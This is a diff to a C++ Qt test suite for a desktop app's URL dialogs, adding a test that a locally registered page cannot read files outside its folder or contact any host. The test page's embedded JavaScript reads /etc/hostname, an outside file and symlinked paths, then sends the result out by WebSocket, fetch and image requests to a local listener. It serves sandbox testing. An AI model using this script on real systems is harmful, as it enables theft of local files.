@@ -10,6 +10,7 @@
 #include "model/contents_store.h"
 #include "model/thumbnail_maker.h"
 #include "model/web_property.h"
+#include "ops/web_thumbnail.h"
 #include "shell_fixture.h"
 #include "ui/contents/url_opt_dlg.h"
 #include "ui/contents/url_set_dlg.h"
@@ -18,8 +19,14 @@
 #include <QDir>
 #include <QFile>
 #include <QLineEdit>
+#include <QFileInfo>
 #include <QSignalSpy>
+#include <QTcpServer>
+#include <QTcpSocket>
+#include <QTest>
 #include <QTimeEdit>
+#include <QWebEnginePage>
+#include <QWebEngineView>
 
 namespace {
 
@@ -39,6 +46,14 @@ protected:
         EXPECT_TRUE(file.open(QIODevice::WriteOnly));
         file.write(html);
         return file.fileName();
+    }
+    // Shows the range picker off screen until its page has loaded.
+    static bool showUntilReady(CUrlThumbViewDlg &dialog)
+    {
+        dialog.setAttribute(Qt::WA_DontShowOnScreen);
+        QSignalSpy ready(&dialog, &CUrlThumbViewDlg::PageReady);
+        dialog.show();
+        return !ready.isEmpty() || ready.wait(30000);
     }
 };
 
@@ -229,10 +244,7 @@ TEST_F(UrlDialogs, RangePickerMeasuresThePageAndDrawsTheChosenArea)
     QImage small;
     QImage large;
     CUrlThumbViewDlg dialog(record, page, &small, &large);
-    dialog.setAttribute(Qt::WA_DontShowOnScreen);
-    QSignalSpy ready(&dialog, &CUrlThumbViewDlg::PageReady);
-    dialog.show();
-    ASSERT_TRUE(!ready.isEmpty() || ready.wait(30000)) << "the page never loaded";
+    ASSERT_TRUE(showUntilReady(dialog)) << "the page never loaded";
     EXPECT_EQ(edit(&dialog, CUrlThumbViewDlg::IDC_WIDTH)->text(), "1920");
     EXPECT_EQ(edit(&dialog, CUrlThumbViewDlg::IDC_HEIGHT)->text(), "900");
 
@@ -255,12 +267,87 @@ TEST_F(UrlDialogs, RangePickerMeasuresThePageAndDrawsTheChosenArea)
     // shows, not as a strip as high as its one line.
     const QString line = writePage("line.html", "<html><body>one line</body></html>");
     CUrlThumbViewDlg shortPage(record, line, &small, &large);
-    shortPage.setAttribute(Qt::WA_DontShowOnScreen);
-    QSignalSpy shortReady(&shortPage, &CUrlThumbViewDlg::PageReady);
-    shortPage.show();
-    ASSERT_TRUE(!shortReady.isEmpty() || shortReady.wait(30000)) << "the short page never loaded";
+    ASSERT_TRUE(showUntilReady(shortPage)) << "the short page never loaded";
     const QWidget *browser = shortPage.findChild<QWidget *>(QString::number(CUrlThumbViewDlg::IDC_BROWSER));
     ASSERT_NE(browser, nullptr);
     EXPECT_EQ(edit(&shortPage, CUrlThumbViewDlg::IDC_HEIGHT)->text(), QString::number(browser->height()));
     EXPECT_EQ(edit(&shortPage, CUrlThumbViewDlg::IDC_WIDTH)->text(), QString::number(browser->width()));
+}
+
+// A registered page is not trusted: it reads its own folder and the Flash
+// runtime, never a file elsewhere (also through a link, also through the
+// runtime's scheme), and reaches no host by any kind of request.
+TEST_F(UrlDialogs, ALocalPageReadsOnlyItsOwnFolderAndReachesNoHost)
+{
+    ASSERT_TRUE(startUp());
+    QTcpServer listener;
+    ASSERT_TRUE(listener.listen(QHostAddress::LocalHost));
+    int heard = 0;
+    QObject::connect(&listener, &QTcpServer::newConnection, &listener, [&] {
+        while (QTcpSocket *socket = listener.nextPendingConnection()) {
+            ++heard;
+            socket->abort();
+        }
+    });
+    // The runtime's two files, and links in its folder that lead out.
+    const QString outside = m_home.filePath("outside.txt");
+    QFile secret(outside);
+    ASSERT_TRUE(secret.open(QIODevice::WriteOnly) && secret.write("secret") == 6);
+    secret.close();
+    const QString resources = m_home.filePath("resources");
+    const QString runtime = QFileInfo(QStringLiteral(TELV_Q9_BINARY)).absolutePath() + "/flash-runtime/";
+    QDir().mkpath(resources + "/flash-runtime");
+    // The loader is the real one where there is one: the browser's profile
+    // keeps it for the tests that follow.
+    if (!QFile::copy(runtime + "telv-loader.js", resources + "/flash-runtime/telv-loader.js"))
+        writePage("../resources/flash-runtime/telv-loader.js", "// stand-in");
+    writePage("../resources/flash-runtime/ruffle.js", "// stand-in");
+    ASSERT_TRUE(QFile::link(outside, resources + "/flash-runtime/out.txt"));
+    ASSERT_TRUE(QFile::link(m_home.path(), resources + "/flash-runtime/home"));
+    SetFlashResourceFolder(resources);
+    writePage("own.txt", "own");
+    writePage("own.svg", R"(<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><rect width="40" height="30" fill="red"/></svg>)");
+    ASSERT_TRUE(QFile::link(outside, m_home.filePath("pages/link.txt")));
+    const QString port = QString::number(listener.serverPort());
+    const QString page = writePage("leak.html", QStringLiteral(R"(<html><body>
+<img id="own" src="own.svg">
+<script>
+function read(url) {
+  try { var r = new XMLHttpRequest(); r.open('GET', url, false); r.send(); return r.status == 200 || r.status == 0 ? r.responseText : ''; }
+  catch (e) { return ''; }
+}
+window.stolen = read('file:///etc/hostname') + read('../outside.txt') + read('link.txt') + read('telv-res:/out.txt')
+  + read('telv-res:/home/outside.txt');
+window.own = read('own.txt') + read('telv-res:/ruffle.js').length;
+var ended = 0;
+function end() { ++ended; }
+var socket = new WebSocket('ws://127.0.0.1:PORT/' + encodeURIComponent(window.stolen));
+socket.onerror = socket.onclose = socket.onopen = function () { socket.onerror = socket.onclose = null; end(); };
+fetch('http://127.0.0.1:PORT/fetch').then(end, end);
+var image = new Image(); image.onload = image.onerror = end; image.src = 'http://127.0.0.1:PORT/image';
+window.done = function () { return ended >= 3 && document.getElementById('own').complete; };
+</script></body></html>)").replace("PORT", port).toUtf8());
+    CWebProperty record;
+    QImage small;
+    QImage large;
+    CUrlThumbViewDlg dialog(record, page, &small, &large);
+    ASSERT_TRUE(showUntilReady(dialog)) << "the page never loaded";
+    auto *view = dialog.findChild<QWebEngineView *>(QString::number(CUrlThumbViewDlg::IDC_BROWSER));
+    ASSERT_NE(view, nullptr);
+    // Shared: an answer still pending when the dialog closes arrives after this test's locals are gone.
+    const auto answer = std::make_shared<QVariantList>();
+    const auto ask = [view, answer] {
+        view->page()->runJavaScript("window.done && window.done() ? [window.stolen, window.own, "
+                                    "document.getElementById('own').naturalWidth] : null",
+                                    [answer](const QVariant &value) { *answer = value.toList(); });
+        return answer->size() == 3;
+    };
+    ASSERT_TRUE(QTest::qWaitFor(ask, 30000)) << "the page's requests never ended";
+    SetFlashResourceFolder({});
+    EXPECT_EQ(answer->at(0).toString().toStdString(), "");
+    EXPECT_EQ(answer->at(1).toString().toStdString(), "own11");
+    EXPECT_EQ(answer->at(2).toInt(), 40);
+    QCoreApplication::processEvents();
+    EXPECT_EQ(heard, 0);
+    EXPECT_TRUE(LogText(baseFolder()).contains("CExplorer : Request of a local page blocked : ws://127.0.0.1:" + port));
 }
